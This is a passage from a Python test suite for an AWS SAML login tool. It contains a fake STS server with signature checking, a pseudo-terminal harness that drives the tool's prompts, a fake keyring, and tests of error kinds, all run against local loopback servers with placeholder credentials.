            return (405, {'Content-Type': 'text/plain', 'Allow': 'POST'}, b'Method Not Allowed')
        form = handler.form
        action, version = form.get('Action'), form.get('Version')
        if not action:
            return sts_error('MissingAction', 'Missing Action')
        if action in ('GetCallerIdentity', 'AssumeRole') and version == '2011-06-15':
            return self._signed_action(handler, action, form)
        if action != 'AssumeRoleWithSAML' or version != '2011-06-15':
            return sts_error('InvalidAction', 'Could not find operation %s for version %s'
                             % (action, version))
        for param in ('RoleArn', 'PrincipalArn', 'SAMLAssertion'):
            if not form.get(param):
                return sts_error('ValidationError', "1 validation error detected: Value null at "
                                 "'%s%s' failed to satisfy constraint: Member must not be null"
                                 % (param[0].lower(), param[1:]))
        role_arn, principal_arn = form['RoleArn'], form['PrincipalArn']
        role_match = _ROLE_ARN_RE.match(role_arn)
        provider_match = _PROVIDER_ARN_RE.match(principal_arn)
        if not role_match or not provider_match:
            return sts_error('ValidationError', 'Invalid RoleArn or PrincipalArn')
        duration = form.get('DurationSeconds')
        if duration is not None:
            if not duration.isdigit() or not 900 <= int(duration) <= 43200:
                return sts_error('ValidationError', "1 validation error detected: Value '%s' at "
                                 "'durationSeconds' failed to satisfy constraint" % duration)
            if int(duration) > self.max_durations.get(form['RoleArn'], self.max_duration):
                return sts_error('ValidationError', 'The requested DurationSeconds exceeds the '
                                 'MaxSessionDuration set for this role.')
        try:
            # Strict: whitespace or a '+' turned into a space is an error here.
            data = base64.b64decode(form['SAMLAssertion'].encode('ascii'), validate=True)
        except (ValueError, UnicodeEncodeError, binascii.Error):
            return sts_error('InvalidIdentityToken', 'Invalid base64 SAMLResponse')
        info, problem = _inspect_saml_response(data, role_arn, principal_arn)
        if problem:
            return sts_error('InvalidIdentityToken', problem)
        for when in re.findall(br'NotOnOrAfter="([^"]+)"', data):
            if calendar.timegm(time.strptime(when.decode(), '%Y-%m-%dT%H:%M:%SZ')) <= self.clock():
                return sts_error('ExpiredTokenException', 'Token expired: current date/time '
                                 'must be before the expiration date/time %s' % when.decode())

        # DurationSeconds wins over the SessionDuration attribute.
        if duration is not None:
            seconds = int(duration)
        elif info['session_duration'] is not None:
            seconds = min(info['session_duration'], self.max_duration)
        else:
            seconds = 3600
        expires = self.clock() + seconds
        if self.microseconds:
            expiration = datetime.datetime.fromtimestamp(
                expires, datetime.timezone.utc).strftime('%Y-%m-%dT%H:%M:%S.%fZ')
        else:
            expiration = _utc(int(expires))
        partition, account, role_name = role_match.groups()
        session_name = info['session_name']
        creds = {
            'AccessKeyId': 'ASIA' + _random_chars(_B32, 16),
            'SecretAccessKey': base64.b64encode(os.urandom(30)).decode('ascii'),
            'SessionToken': 'FwoGZXIvYXdzE' + base64.b64encode(os.urandom(240)).decode('ascii'),
            'Expiration': expiration,
            'Arn': 'arn:%s:sts::%s:assumed-role/%s/%s' % (partition, account, role_name, session_name),
        }
        name_qualifier = base64.b64encode(hashlib.sha1(
            (info['issuer'] + account + '/' + provider_match.group(3)).encode('utf-8')).digest())
        request_id = str(uuid.uuid4())
        body = (
            '<AssumeRoleWithSAMLResponse xmlns="%s">\n'
            '  <AssumeRoleWithSAMLResult>\n'
            '    <Audience>%s</Audience>\n'
            '    <AssumedRoleUser>\n'
            '      <AssumedRoleId>AROA%s:%s</AssumedRoleId>\n'
            '      <Arn>%s</Arn>\n'
            '    </AssumedRoleUser>\n'
            '    <Credentials>\n'
            '      <AccessKeyId>%s</AccessKeyId>\n'
            '      <SecretAccessKey>%s</SecretAccessKey>\n'
            '      <SessionToken>%s</SessionToken>\n'
            '      <Expiration>%s</Expiration>\n'
            '    </Credentials>\n'
            '    <Issuer>%s</Issuer>\n'
            '    <NameQualifier>%s</NameQualifier>\n'
            '    <Subject>%s</Subject>\n'
            '    <SubjectType>%s</SubjectType>\n'
            '  </AssumeRoleWithSAMLResult>\n'
            '  <ResponseMetadata>\n'
            '    <RequestId>%s</RequestId>\n'
            '  </ResponseMetadata>\n'
            '</AssumeRoleWithSAMLResponse>\n'
            % (NS_STS, _text(info['audience']), _random_chars(_B32, 17), _text(session_name),
               _text(creds['Arn']), creds['AccessKeyId'], creds['SecretAccessKey'],
               creds['SessionToken'], expiration, _text(info['issuer']),
               name_qualifier.decode('ascii'), _text(info['subject']),
               _text(info['subject_type']), request_id))
        self._note('issued', creds)
        return (200, {'Content-Type': 'text/xml', 'x-amzn-RequestId': request_id},
                body.encode('utf-8'))


def _fake_sts_signed_action(self, handler, action, form):
    """GetCallerIdentity and AssumeRole as STS answers them: SigV4 checked with the
    secret STS issued, the session token required, errors in STS's shape."""
    auth = handler.headers.get('Authorization') or ''
    m = re.match(r'AWS4-HMAC-SHA256 Credential=([^/]+)/(\d{8})/([^/]+)/sts/aws4_request, '
                 r'SignedHeaders=([a-z0-9;-]+), Signature=([0-9a-f]{64})$', auth)
    if not m:
        return sts_error('MissingAuthenticationToken', 'Request is missing Authentication Token',
                         status=403)
    key_id, day, region, signed, signature = m.groups()
    if region != self.region:
        return sts_error('SignatureDoesNotMatch', "Credential should be scoped to a valid "
                         "region, not '%s'." % region, status=403)
    issued = [c for c in self.issued if c['AccessKeyId'] == key_id]
    if not issued:
        return sts_error('InvalidClientTokenId', 'The security token included in the request '
                         'is invalid.', status=403)
    creds = issued[-1]
    amz_date = handler.headers.get('X-Amz-Date') or ''
    names = signed.split(';')
    if ('host' not in names or 'x-amz-date' not in names or 'x-amz-security-token' not in names
            or handler.headers.get('X-Amz-Security-Token') != creds['SessionToken']
            or amz_date[:8] != day):
        return sts_error('IncompleteSignature', 'The request signature does not sign the '
                         'date, host and session token', status=403)
    canonical = '\n'.join(['POST', '/', ''] +
                           ['%s:%s' % (n, ' '.join(handler.headers.get(n, '').split()))
                            for n in names] +
                           ['', signed, hashlib.sha256(handler.body).hexdigest()])
    scope = '%s/%s/sts/aws4_request' % (day, region)
    to_sign = '\n'.join(['AWS4-HMAC-SHA256', amz_date, scope,
                         hashlib.sha256(canonical.encode()).hexdigest()])
    key = ('AWS4' + creds['SecretAccessKey']).encode()
    for part in (day, region, 'sts', 'aws4_request'):
        key = hmac.new(key, part.encode(), hashlib.sha256).digest()
    if hmac.new(key, to_sign.encode(), hashlib.sha256).hexdigest() != signature:
        return sts_error('SignatureDoesNotMatch', 'The request signature we calculated does '
                         'not match the signature you provided.', status=403)
    arn = creds['Arn']
    account = arn.split(':')[4]
    request_id = str(uuid.uuid4())
    if action == 'GetCallerIdentity':
        body = ('<GetCallerIdentityResponse xmlns="%s"><GetCallerIdentityResult>'
                '<Arn>%s</Arn><UserId>AROAFAKE:%s</UserId><Account>%s</Account>'
                '</GetCallerIdentityResult><ResponseMetadata><RequestId>%s</RequestId>'
                '</ResponseMetadata></GetCallerIdentityResponse>'
                % (NS_STS, _text(arn), _text(arn.rsplit('/', 1)[-1]), account, request_id))
        return (200, {'Content-Type': 'text/xml'}, body.encode())
    role = _ROLE_ARN_RE.match(form.get('RoleArn', ''))
    session = form.get('RoleSessionName', '')
    if not role or not re.match(r'[\w+=,.@-]{2,64}$', session):
        return sts_error('ValidationError', 'Invalid RoleArn or RoleSessionName')
    if self.external_ids.get(form['RoleArn']) not in (None, form.get('ExternalId')):
        return sts_error('AccessDenied', 'User: %s is not authorized to perform: '
                         'sts:AssumeRole on resource: %s' % (arn, form['RoleArn']), status=403)
    duration = int(form.get('DurationSeconds') or 3600)
    if duration > 3600:
        return sts_error('ValidationError', 'The requested DurationSeconds exceeds the 1 hour '
                         'session limit for roles assumed by role chaining.')
    partition, account, role_name = role.groups()
    new = {'AccessKeyId': 'ASIA' + _random_chars(_B32, 16),
           'SecretAccessKey': base64.b64encode(os.urandom(30)).decode('ascii'),
           'SessionToken': 'FwoChained' + base64.b64encode(os.urandom(120)).decode('ascii'),
           'Expiration': _utc(int(self.clock() + duration)),
           'Arn': 'arn:%s:sts::%s:assumed-role/%s/%s' % (partition, account, role_name, session)}
    body = ('<AssumeRoleResponse xmlns="%s"><AssumeRoleResult><Credentials>'
            '<AccessKeyId>%s</AccessKeyId><SecretAccessKey>%s</SecretAccessKey>'
            '<SessionToken>%s</SessionToken><Expiration>%s</Expiration></Credentials>'
            '<AssumedRoleUser><AssumedRoleId>AROACHAIN:%s</AssumedRoleId><Arn>%s</Arn>'
            '</AssumedRoleUser></AssumeRoleResult><ResponseMetadata><RequestId>%s</RequestId>'
            '</ResponseMetadata></AssumeRoleResponse>'
            % (NS_STS, new['AccessKeyId'], new['SecretAccessKey'], new['SessionToken'],
               new['Expiration'], _text(session), _text(new['Arn']), request_id))
    self._note('issued', new)
    return (200, {'Content-Type': 'text/xml'}, body.encode())


FakeSTS._signed_action = _fake_sts_signed_action


# ---------------------------------------------------------------------------
# Byte-preservation oracle
# ---------------------------------------------------------------------------

_START_RE = re.compile(br'<([^\s/>]+)')
_ATTR_RE = re.compile(br'''\s+([^\s=/>]+)\s*=\s*("[^"]*"|'[^']*')''')
_END_RE = re.compile(br'\s*/?>')


def _split_start_tag(data):
    """(name, [(attr, raw value)], rest from the start tag's '>' on)."""
    m = _START_RE.match(data)
    if not m:
        return None, [], data
    pos, attrs = m.end(), []
    while True:
        am = _ATTR_RE.match(data, pos)
        if not am:
            break
        attrs.append((am.group(1), am.group(2)[1:-1]))
        pos = am.end()
    end = _END_RE.match(data, pos)
    return m.group(1), attrs, data[end.start():] if end else data[pos:]


def response_bytes_problem(sent, original, inherited_ns):
    """None if `sent` is `original` plus namespace declarations, else why.

    sent: the decoded SAMLAssertion a client sent (an XML declaration in
    front is allowed). original: FakeIdP.last_response_bytes. Everything
    after the root start tag must be byte-identical; the start tag must keep
    every original attribute (quoting and order may change) and may only add
    xmlns declarations from inherited_ns, which must cover every inherited
    prefix the original uses (in names or in values like xs:string).
    """
    sent = re.sub(br'^\s*<\?xml[^>]*\?>\s*', b'', sent)
    name, attrs, rest = _split_start_tag(sent)
    o_name, o_attrs, o_rest = _split_start_tag(original)
    if name != o_name:
        return 'root element %r, expected %r' % (name, o_name)
    if rest != o_rest:
        return 'content after the start tag differs'
    missing = [a for a in o_attrs if a not in attrs]
    if missing:
        return 'original attributes lost: %r' % missing
    declared = {}
    for attr, value in attrs:
        if (attr, value) in o_attrs:
            continue
        prefix = attr[6:].decode() if attr.startswith(b'xmlns:') else None
        if prefix is None or inherited_ns.get(prefix) != value.decode():
            return 'unexpected attribute %s=%r' % (attr.decode(), value.decode())
        declared[prefix] = value
    own = set(a[6:].decode() for a, _ in o_attrs if a.startswith(b'xmlns:'))
    for prefix in inherited_ns:
        used = re.search(br'(?:<|</|[\s"\'])' + re.escape(prefix.encode()) + b':', original)
        if used and prefix not in own and prefix not in declared:
            return 'inherited prefix %r used but not declared' % prefix
    return None


# ---------------------------------------------------------------------------
# Harness: a temporary home, the real file on a pseudo-terminal
# ---------------------------------------------------------------------------

# Puts a new session's controlling terminal on the pty, then runs the tool.
PTY_SHIM = ("import os, sys; os.close(os.open(sys.argv[1], os.O_RDWR)); "
            "os.execv(sys.argv[2], sys.argv[2:])")

CLEARED_ENV = ("AWS_PROFILE", "AWS_DEFAULT_PROFILE", "AWS_ENDPOINT_URL", "AWS_ENDPOINT_URL_STS",
               "AWS_CA_BUNDLE", "AWS_REGION", "AWS_DEFAULT_REGION", "HTTPS_PROXY",
               "https_proxy", "HTTP_PROXY", "http_proxy", "NO_PROXY", "no_proxy",
               "AWS_ACCESS_KEY_ID", "AWS_SECRET_ACCESS_KEY", "AWS_SESSION_TOKEN",
               "PYTHONPATH", "DISPLAY", "WAYLAND_DISPLAY")


class Run(object):
    """What a run of the tool left: exit code, stdout, stderr, what the terminal
    showed, and whether the terminal echoes typing again (None: no terminal)."""

    def __init__(self, code, stdout, stderr, tty, echo=None):
        self.code, self.stdout, self.stderr, self.tty = code, stdout, stderr, tty
        self.echo = echo

    def __repr__(self):
        return "Run(code=%r, stdout=%r, stderr=%r, tty=%r)" % (
            self.code, self.stdout, self.stderr, self.tty)


# How the tool starts.  The README's route, `python3 aws_login.py ...`,
# compiles the whole 250 KB file on every start (Python caches no bytecode
# for a script): 40-50 ms of CPU, about 470 times a run, half what a start
# costs.  So most tests start the same file, still as a real process on
# the pty, from cached bytecode (BYTECODE_START; run_all writes the bytecode
# before the workers start): the script's folder first on sys.path and the
# current folder not on it, as for `python3 aws_login.py`, and argv[0] the
# script's path, so that usage lines and hints name `python3 /path/aws_login.py`
# as they would on the README's route.  The module is then named aws_login,
# not __main__, which the tool never looks at.  Tests marked @readme_route
# start the tool as the README says (README_START) instead.
README_START = [sys.executable, SCRIPT]
BYTECODE_CODE = ("import sys; sys.argv[0] = %r; sys.path[:] = [%r] + [p for p in sys.path "
                 "if p]; import aws_login; sys.exit(aws_login.main())" % (SCRIPT, HERE))
BYTECODE_START = [sys.executable, "-c", BYTECODE_CODE]
_readme_route = [False]     # set for the running test by HomeTestCase.setUp


def readme_route(test):
    """Marks a test that starts the tool as the README does, `python3 aws_login.py
    ...` on a pty, compiling the file each time: a handful of tests keep that
    route honest (a login with every prompt, the role menu, Ctrl-C at a prompt,
    configure, configure --credential-process, a refresher and logout) while
    the rest start from bytecode.  HintTest.test_from_the_file and
    CommandLineTest.test_help_lists_the_commands start both ways and expect
    the same text.  The pipe into `python3 -`, the installed `aws-login`,
    --password-stdin and the configured credential_process command have tests
    of their own that start them as they are (argv_prefix), and a few tests
    start `python3 aws_login.py` themselves (exec --server, serve, console, a
    umask, an address-space cap, a venv's Python)."""
    test.readme_route = True
    return test


def slow(test):
    """Marks a test that takes seconds (many starts of the tool, processes that
    race, a server that answers late): the runner starts it first, with the
    classes marked SLOW, so that it does not end the run alone."""
    test.SLOW = True
    return test


def cache_bytecode():
    """Write aws_login.py's bytecode beside it for this Python, once, before
    the workers start: otherwise each BYTECODE_START compiles it again
    (PYTHONDONTWRITEBYTECODE is set here, and anyway parallel first imports
    would all compile).  The import system checks it against the source."""
    import py_compile
    try:
        py_compile.compile(SCRIPT, doraise=True)
    except (OSError, py_compile.PyCompileError) as e:   # slower, still right
        sys.stderr.write("no bytecode cached for %s: %s\n" % (SCRIPT, e))


def _talk(proc, master, slave, pending, deadline):
    """Read the terminal and type each answer once its prompt shows, until the
    tool exits; returns (what the terminal showed, answers never typed, whether
    it echoes typing once the tool is gone).  The
    tool's exit wakes us at once (a thread waits for it); then a mark that we
    write to the terminal ourselves follows everything the tool wrote there,
    so the rest is read up to the mark, without waiting for a silence."""
    wake_r, wake_w = os.pipe()

    def wait():
        proc.wait()
        os.write(wake_w, b"x")
    waiter = threading.Thread(target=wait)
    waiter.daemon = True
    waiter.start()
    mark = ("[run_tool: the tool exited %s]" % uuid.uuid4().hex).encode()
    os.set_blocking(slave, False)       # the mark waits while the terminal is full
    tty, seen, interrupted, exited, marked, done = b"", 0, None, False, False, False
    try:
        while not done:
            if exited and not marked:
                try:
                    marked = os.write(slave, mark) == len(mark)
                except BlockingIOError:
                    pass
            ready = select.select([master] + ([] if exited else [wake_r]), [], [], 0.05)[0]
            if wake_r in ready:
                exited = True
            if master in ready:
                try:
                    tty += os.read(master, 4096)
                except OSError:
                    pass
                if marked and mark in tty:
                    tty, done = tty[:tty.index(mark)], True
            if pending and pending[0][0].encode() in tty[seen:]:
                seen = tty.index(pending[0][0].encode(), seen) + len(pending[0][0])
                reply = pending.pop(0)[1]       # bytes go as they are (b"\x03" is Ctrl-C)
                os.write(master, reply if isinstance(reply, bytes) else reply.encode() + b"\n")
                interrupted = time.time() if reply == b"\x03" else None
            elif interrupted and time.time() - interrupted > 2 and not exited:
                os.write(master, b"\x03")      # pressed again, as a person would
                interrupted = time.time()
            if time.time() > deadline and not done:
                proc.kill()
                raise AssertionError("the tool hung; terminal so far: %r" % tty)
    finally:
        if waiter.is_alive():
            proc.kill()
            waiter.join(5)
        os.close(wake_r)
        if not waiter.is_alive():       # else it may still write: leave the fd to it
            os.close(wake_w)
        echo = bool(termios.tcgetattr(slave)[3] & termios.ECHO)
        os.close(master)
        os.close(slave)
    return tty, pending, echo


def run_tool(args, answers=(), env=None, stdin=b"", terminal=True, timeout=30,
             argv_prefix=None):
    """Run aws_login.py as a real process.  ``answers`` is a list of
    (prompt, reply): each reply is typed once ``prompt`` has appeared on the
    terminal.  Fails the test if a prompt never appears or the run hangs.
    The tool starts as ``argv_prefix`` says, else as the README says in a
    test marked @readme_route, else from cached bytecode."""
    command = (argv_prefix or (README_START if _readme_route[0] else BYTECODE_START)) + list(args)
    master = slave = None
    if terminal:
        master, slave = os.openpty()
        if command[:3] == BYTECODE_START:
            # The shim's open done by the start's own code: one interpreter less.
            command[2] = "import os; os.close(os.open(%r, os.O_RDWR)); %s" % (
                os.ttyname(slave), BYTECODE_CODE)
        else:
            # -I -S: the shim itself skips site (tens of ms a run); the tool it
            # execs starts as the command line says.
            command = [sys.executable, "-I", "-S", "-c", PTY_SHIM, os.ttyname(slave)] + command
    proc = subprocess.Popen(command, stdin=subprocess.PIPE, stdout=subprocess.PIPE,
                            stderr=subprocess.PIPE, env=env, start_new_session=True)
    out = {}

    def pump(name, stream):
        out[name] = stream.read()
    readers = [threading.Thread(target=pump, args=(n, s))
               for n, s in (("stdout", proc.stdout), ("stderr", proc.stderr))]
    for r in readers:
        r.daemon = True
        r.start()
    try:
        proc.stdin.write(stdin)
        proc.stdin.close()
    except BrokenPipeError:
        pass
    tty, pending, deadline, echo = b"", list(answers), time.time() + timeout, None
    if terminal:
        tty, pending, echo = _talk(proc, master, slave, pending, deadline)
    try:
        proc.wait(max(1, deadline - time.time()))
    except subprocess.TimeoutExpired:
        proc.kill()
        raise AssertionError("the tool hung")
    for r in readers:
        r.join(5)
        if r.is_alive():
            raise AssertionError("the tool exited but its stdout/stderr stayed open: "
                                 "a child it left behind holds them")
    if pending:
        raise AssertionError("prompt %r never came; terminal: %r, stderr: %r"
                             % (pending[0][0], tty, out.get("stderr")))
    return Run(proc.returncode, out.get("stdout", b"").decode("utf-8", "replace"),
               out.get("stderr", b"").decode("utf-8", "replace"),
               tty.decode("utf-8", "replace"), echo)


class HomeTestCase(unittest.TestCase):
    """Each test in a fresh home: config, credentials, cookies and env of its own."""

    HOME_IN = None      # the folder the home is made in: the system's temporary one

    def setUp(self):
        _readme_route[0] = getattr(getattr(self, self._testMethodName), "readme_route", False)
        self.addCleanup(_readme_route.__setitem__, 0, False)
        self.home = tempfile.mkdtemp(prefix="aws-login-test-", dir=self.HOME_IN)
        self.addCleanup(shutil.rmtree, self.home, True)
        self.saved_env = dict(os.environ)
        self.addCleanup(self._restore_env)
        for name in CLEARED_ENV:
            os.environ.pop(name, None)
        os.environ.update({
            "HOME": self.home,
            "AWSCLI_LOGIN_ROOT": self.home,       # awscli-login's: it stands for the home
            "AWS_SHARED_CREDENTIALS_FILE": os.path.join(self.home, ".aws", "credentials"),
            "AWS_CONFIG_FILE": os.path.join(self.home, ".aws", "config"),
        })
        self.config_file = os.path.join(self.home, ".aws-login", "config")
        self.credentials_file = os.environ["AWS_SHARED_CREDENTIALS_FILE"]

    def _restore_env(self):
        self.reap_refreshers()
        os.environ.clear()
        os.environ.update(self.saved_env)

    def reap_refreshers(self):
        """Kill every refresher this test started (each holds its pid file open):
        the suite leaves no process behind, and kills nothing else."""
        run_dir = os.path.join(self.home, ".aws-login", "run")
        for name in (os.listdir(run_dir) if os.path.isdir(run_dir) else []):
            state = aws_login._refresher_state(aws_login._unquote_name(name[:-4]))
            if state and state.alive and _holds_file(state.pid, os.path.join(run_dir, name)):
                try:
                    os.kill(state.pid, 9)
                except OSError:
                    pass

    def write(self, path, text, mode=0o600):
        os.makedirs(os.path.dirname(path), exist_ok=True)
        with open(path, "wb") as f:
            f.write(text.encode("utf-8") if isinstance(text, str) else text)
        os.chmod(path, mode)

    def read(self, path):
        with open(path, "rb") as f:
            return f.read().decode("utf-8")

    def credentials(self, profile="default"):
        parser = aws_login._parse_ini(self.read(self.credentials_file), "c", "\x00")
        return dict(parser.items(profile)) if parser.has_section(profile) else None


# ---------------------------------------------------------------------------
# Harness: the people, roles and helpers most tests share
# ---------------------------------------------------------------------------

VALUES = [("aws_access_key_id", "ASIANEW"), ("aws_secret_access_key", "sek"),
          ("aws_session_token", "tok")]


ACCOUNT_A, ACCOUNT_B = "123456789012", "210987654321"
ADMIN = "arn:aws:iam::%s:role/Admin" % ACCOUNT_A
PROVIDER_A = "arn:aws:iam::%s:saml-provider/IdP" % ACCOUNT_A
DEV = "arn:aws:iam::%s:role/team/Dev" % ACCOUNT_A
READONLY = "arn:aws:iam::%s:role/ReadOnly" % ACCOUNT_B
PROVIDER_B = "arn:aws:iam::%s:saml-provider/IdP" % ACCOUNT_B
PASSWORD = "correct horse battery staple"


class FakeKeyring(object):
    """A ``keyring`` module kept in a JSON file, importable by the child process."""

    SOURCE = (
        "import json, os\n"
        "PATH = os.environ['FAKE_KEYRING_FILE']\n"
        "def _load():\n"
        "    try:\n"
        "        with open(PATH) as f: return json.load(f)\n"
        "    except FileNotFoundError: return {}\n"
        "def get_password(service, user):\n"
        "    return _load().get(service + ' ' + user)\n"
        "def set_password(service, user, password):\n"
        "    data = _load(); data[service + ' ' + user] = password\n"
        "    with open(PATH, 'w') as f: json.dump(data, f)\n")

    def __init__(self, directory):
        self.module_dir = os.path.join(directory, "fake-keyring")
        os.makedirs(self.module_dir)
        with open(os.path.join(self.module_dir, "keyring.py"), "w") as f:
            f.write(self.SOURCE)
        self.path = os.path.join(directory, "keyring.json")

    def env(self):
        return {"PYTHONPATH": self.module_dir, "FAKE_KEYRING_FILE": self.path}

    def items(self):
        try:
            with open(self.path) as f:
                return json.load(f)
        except FileNotFoundError:
            return {}

    def set(self, user, password):
        data = self.items()
        data["awscli_login " + user] = password
        with open(self.path, "w") as f:
            json.dump(data, f)


def in_process_keyring(test, store):
    """A ``keyring`` module in sys.modules for ``test``, kept in ``store``
    ({(service, user): password}); the test's cleanup takes it out again."""
    class Module(object):
        get_password = staticmethod(lambda s, u: store.get((s, u)))
        set_password = staticmethod(lambda s, u, p: store.__setitem__((s, u), p))
    saved = sys.modules.get("keyring")
    sys.modules["keyring"] = Module
    test.addCleanup(lambda: sys.modules.pop("keyring") if saved is None
                    else sys.modules.__setitem__("keyring", saved))
    return store


class LoginTestCase(HomeTestCase):
    """A fake IdP and STS on loopback with the test CA; alice has one role."""

    def setUp(self):
        HomeTestCase.setUp(self)
        os.mkdir(os.path.join(self.home, "pki"))
        self.pems = write_pem_files(os.path.join(self.home, "pki"))
        self.idp = FakeIdP().start()
        self.addCleanup(self.idp.stop)
        self.sts = FakeSTS().start()
        self.addCleanup(self.sts.stop)
        os.environ["AWS_ENDPOINT_URL_STS"] = self.sts.url
        os.environ["AWS_CA_BUNDLE"] = self.pems["ca"]
        self.idp.users["alice"] = dict(password=PASSWORD, roles=[ADMIN + "," + PROVIDER_A],
                                       session_duration=None, role_session_name=None)
        self.idp.users["bob"] = dict(
            password="bob-pass", session_duration=None, role_session_name=None,
            roles=[ADMIN + "," + PROVIDER_A, PROVIDER_B + "," + READONLY,
                   DEV + "," + PROVIDER_A])

    def configure(self, profile="default", **options):
        options.setdefault("ecp_endpoint_url", self.idp.url)
        options.setdefault("refresh", "false")      # RefresherTest turns it on
        text = self.read(self.config_file) if os.path.exists(self.config_file) else ""
        self.write(self.config_file, aws_login._ini_set_options(text, profile, options))

    def tool(self, args, answers=(), env=None, **kw):
        full = dict(os.environ)
        full.update(env or {})
        return run_tool(args, answers, env=full, **kw)

    def assert_logged_in(self, run, role_arn=ADMIN, profile="default"):
        self.assertEqual(run.code, 0, run)
        self.assertEqual(run.stdout, "")
        self.assertIn("Logged in as", run.stderr)
        issued = self.sts.issued[-1]
        section = self.credentials(profile)
        self.assertEqual(section["aws_access_key_id"], issued["AccessKeyId"])
        self.assertEqual(section["aws_secret_access_key"], issued["SecretAccessKey"])
        self.assertEqual(section["aws_session_token"], issued["SessionToken"])
        self.assertEqual(section["aws_login_role_arn"], role_arn)
        self.assertEqual(self.sts.requests[-1]["form"]["RoleArn"], role_arn)
        self.assertEqual(os.stat(self.credentials_file).st_mode & 0o777, 0o600)
        for secret in (PASSWORD, issued["SecretAccessKey"], issued["SessionToken"]):
            self.assertNotIn(secret, run.stdout + run.stderr + run.tty)

    def assert_nothing_written(self, run, code, before=None):
        self.assertEqual(run.code, code, run)
        self.assertEqual(run.stdout, "")
        self.assertNotIn("Traceback", run.stderr)
        self.assertEqual(len(run.stderr.strip().splitlines()), 1, run.stderr)
        if before is None:
            self.assertFalse(os.path.exists(self.credentials_file))
        else:
            self.assertEqual(self.read(self.credentials_file), before)
        self.assertEqual(os.listdir(os.path.join(self.home, ".aws-login", "cookies"))
                         if os.path.isdir(os.path.join(self.home, ".aws-login", "cookies"))
                         else [], [])


def _fake_credentials(n=0):
    return aws_login.Credentials("ASIA%016d" % n, "secret%d" % n, "token%d" % n,
                                 aws_login._parse_timestamp("2030-01-01T00:00:00Z"))


def _process_state(pid):
    """'R', 'S', 'Z' ... from /proc, or None once the process is gone."""
    try:
        with open("/proc/%d/stat" % pid) as f:
            return f.read().rsplit(")", 1)[1].split()[0]
    except OSError:
        return None


def _holds_file(pid, path):
    """Whether process ``pid`` has ``path`` open (a refresher holds its pid file)."""
    try:
        target = os.stat(path)
        fds = os.listdir("/proc/%d/fd" % pid)
    except OSError:
        return False
    for fd in fds:
        try:
            st = os.stat("/proc/%d/fd/%s" % (pid, fd))
        except OSError:
            continue
        if (st.st_dev, st.st_ino) == (target.st_dev, target.st_ino):
            return True
    return False


def _wait_for(predicate, timeout, step=0.1):
    deadline = time.time() + timeout
    while time.time() < deadline:
        if predicate():
            return True
        time.sleep(step)
    return predicate()


def _cmdline(pid):
    try:
        with open("/proc/%d/cmdline" % pid, "rb") as f:
            return f.read()
    except OSError:
        return b""


def _resident_kb(pid):
    """VmRSS of process ``pid`` in kB."""
    with open("/proc/%d/status" % pid) as f:
        return int(re.search(r"VmRSS:\s+(\d+)", f.read()).group(1))


def _start_ticks(pid):
    """Field 22 of /proc/PID/stat: when the process started, in ticks since boot."""
    with open("/proc/%d/stat" % pid, "rb") as f:
        return f.read().rsplit(b")", 1)[1].split()[19].decode()


def _boot_id():
    with open("/proc/sys/kernel/random/boot_id") as f:
        return f.read().strip()


# ---------------------------------------------------------------------------
# Errors
# ---------------------------------------------------------------------------

class ErrorsTest(unittest.TestCase):
    def test_every_error_has_its_own_documented_exit_code(self):
        classes = [aws_login.AwsLoginError] + aws_login.AwsLoginError.__subclasses__()
        codes = [c.exit_code for c in classes]
        self.assertEqual(len(codes), len(set(codes)))
        readme = open(os.path.join(HERE, "README.md")).read()
        for code in codes + [aws_login._EXIT_INTERRUPTED]:
            self.assertTrue(re.search(r"\|\s*%d\s*\|" % code, readme),
                            "exit code %d is not in the README's table" % code)

    def test_every_command_is_known_to_the_quick_parser(self):
        import argparse
        parser = aws_login._build_parser()
        choices = [a for a in parser._actions if isinstance(a, argparse._SubParsersAction)][0]
        self.assertEqual(sorted(choices.choices), sorted(aws_login._COMMANDS))
        for word in aws_login._COMMANDS:
            only = aws_login._build_parser(word)
            sub = [a for a in only._actions if isinstance(a, argparse._SubParsersAction)][0]
            self.assertEqual(list(sub.choices), [word])
        self.assertEqual(aws_login._command_word(["--profile", "p", "--debug", "login", "-x"]),
                         "login")
        self.assertEqual(aws_login._command_word(["--debug", "--profile", "login"]), None)

    def test_import_has_no_side_effects(self):
        code = ("import sys, os; sys.path.insert(0, %r); before = set(sys.modules); "
                "import aws_login; heavy = {'ssl', 'urllib.request', 'xml.etree.ElementTree', "
                "'http.cookiejar', 'argparse'} & set(sys.modules); print(sorted(heavy))"
                % HERE)
        out = subprocess.check_output([sys.executable, "-c", code], cwd=tempfile.gettempdir(),
                                      universal_newlines=True)
        self.assertEqual(out.strip(), "[]")


class ErrorKindTest(LoginTestCase):
    """Decisions read an error's kind, set where it is raised, never its text."""
    SLOW = True         # waits on real time: the runner starts it first

    def session(self, url=None):
        profile = aws_login.Profile("default", {"ecp_endpoint_url": url or self.idp.url,
                                                "factor": "push"})
        return aws_login._IdPSession(profile, "alice", aws_login.Terminal(None),
                                     aws_login._make_ssl_context(),
                                     aws_login._PARTITIONS["aws"][0])

    def short_read_timeout(self):
        real = aws_login._http_request
        aws_login._http_request = lambda *a, **kw: real(*a, **dict(kw, read_timeout=0.5))
        self.addCleanup(setattr, aws_login, "_http_request", real)

    def silent_server(self):
        server = socket.socket()
        server.bind(("127.0.0.1", 0))
        server.listen(1)
        self.addCleanup(server.close)
        return "http://127.0.0.1:%d/ecp" % server.getsockname()[1]

    def test_every_refusal_style_is_kind_refused(self):
        for style in ("responder", "401", "fault", "html"):
            self.idp.failure_style = style
            with self.assertRaises(aws_login.AuthenticationError) as caught:
                self.session().authenticate("wrong", "push", None)
            self.assertEqual(caught.exception.kind, "refused", style)

    def test_an_idp_that_never_answers_is_kind_timeout(self):
        self.short_read_timeout()
        with self.assertRaises(aws_login.AuthenticationError) as caught:
            self.session(self.silent_server()).authenticate(PASSWORD, "push", None)
        self.assertEqual(caught.exception.kind, "timeout")
        self.assertIn("Duo push was not approved", str(caught.exception))

    def test_network_errors_carry_their_kind(self):
        sock = socket.socket()
        sock.bind(("127.0.0.1", 0))
        self.addCleanup(sock.close)     # bound, not listening: refused, and not reused
        closed = "http://127.0.0.1:%d/" % sock.getsockname()[1]
        for url, context, kind in (
                (closed, None, "refused"),
                (self.silent_server(), None, "timeout"),
                (self.idp.url, ssl.create_default_context(), "untrusted")):
            with self.assertRaises(aws_login.NetworkError) as caught:
                aws_login._http_request(url, b"x", ssl_context=context, read_timeout=0.5)
            self.assertEqual(caught.exception.kind, kind, caught.exception)
        self.assertEqual(aws_login._network_error_kind(socket.gaierror(-2, "unknown")), "dns")
